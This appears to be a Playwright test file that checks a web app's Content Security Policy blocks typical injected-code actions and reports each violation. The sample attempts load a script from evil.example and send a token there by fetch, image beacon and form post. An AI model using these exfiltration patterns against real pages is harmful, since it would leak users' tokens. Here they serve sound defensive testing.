import type { Page } from '@playwright/test';
import { expect, openAs, test } from '../test.ts';

// Any violation of the page's policy fails a journey (watchComplaints). These tests show that violations are noticed,
// and that the policy forbids the typical actions of injected code.

test.use({ drawsMap: false });

const noticed = (page: Page, directive: string) =>
  page.waitForEvent('console', (message) => message.text().startsWith(`Forbidden by the policy: ${directive}`));

const ATTEMPTS = {
  'a script in the page': [
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.isTakenOver = true';
      document.body.append(script);
    },
  ],
  'a script of another site': [
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/x.js';
      document.body.append(script);
    },
  ],
  'a script in an attribute': [
    'script-src-attr',
    () => {
      document.body.setAttribute('onclick', 'globalThis.isTakenOver = true');
      document.body.click();
    },
  ],
  'a call to another site': ['connect-src', () => void fetch('https://evil.example/?token=x').catch(() => undefined)],
  'a picture of another site': [
    'img-src',
    () => {
      new Image().src = 'https://evil.example/x.png?token=x';
    },
  ],
  'another site in a frame': [
    'frame-src',
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    },
  ],
  'a form to another site': [
    'form-action',
    () => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/';
      document.body.append(form);
      form.submit();
    },
  ],
} as const;

test.describe('the policy', () => {
  test.use({ expectedErrors: [/policy/i] });

  test('the policy forbids what injected code would do, and every journey would notice it', async ({ page }) => {
    await openAs(page, 'admin');
    for (const [what, [directive, attempt]] of Object.entries(ATTEMPTS)) {
      await test.step(what, async () => {
        const told = noticed(page, directive);
        await page.evaluate(attempt);
        await told;
      });
    }
    expect(await page.evaluate(() => 'isTakenOver' in globalThis)).toBe(false);
  });

  test('the policy forbids compiling code, which zod would try without its setting', async ({ page }) => {
    await page.addInitScript(() => {
      const config = {};
      const keep = (given: unknown): void => void given;
      Object.defineProperty(globalThis, '__zod_globalConfig', { get: () => config, set: keep });
    });
    const told = noticed(page, 'script-src');
    await openAs(page, 'admin');
    await told;
  });
});
